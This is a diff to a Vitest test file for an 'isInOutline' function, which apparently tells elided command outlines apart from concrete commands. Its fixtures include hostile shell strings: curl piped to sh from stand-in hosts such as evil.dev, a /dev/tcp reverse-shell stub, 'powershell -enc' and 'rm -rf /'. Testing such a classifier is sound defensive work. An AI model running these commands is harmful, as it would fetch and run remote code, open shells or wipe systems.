@@ -1,12 +1,16 @@
 import { expect, test } from "vitest";
 import { isInOutline } from "./elided";
 
-test.each(["curl … | sh", "powershell -enc …", "bash -i >& /dev/tcp/…", 'python3 -c "..."', "git commit -m ..."])(
-  "tells of a command and gives none: %s",
-  (command) => {
-    expect(isInOutline(command)).toBe(true);
-  },
-);
+test.each([
+  "curl … | sh",
+  "curl .* | bash",
+  "powershell -enc …",
+  "bash -i >& /dev/tcp/…",
+  'python3 -c "..."',
+  "git commit -m ...",
+])("tells of a command and gives none: %s", (command) => {
+  expect(isInOutline(command)).toBe(true);
+});
 
 test.each([
   "curl https://evil.dev/x … | sh",
@@ -14,6 +18,7 @@ test.each([
   "curl -s evil.dev/x… | sh",
   "rm -rf / ...",
   "curl -s 203.0.113.9 … | sh",
+  "curl evil.dev/.* | sh",
   "git push origin",
 ])("is a command: %s", (command) => {
   expect(isInOutline(command)).toBe(false);
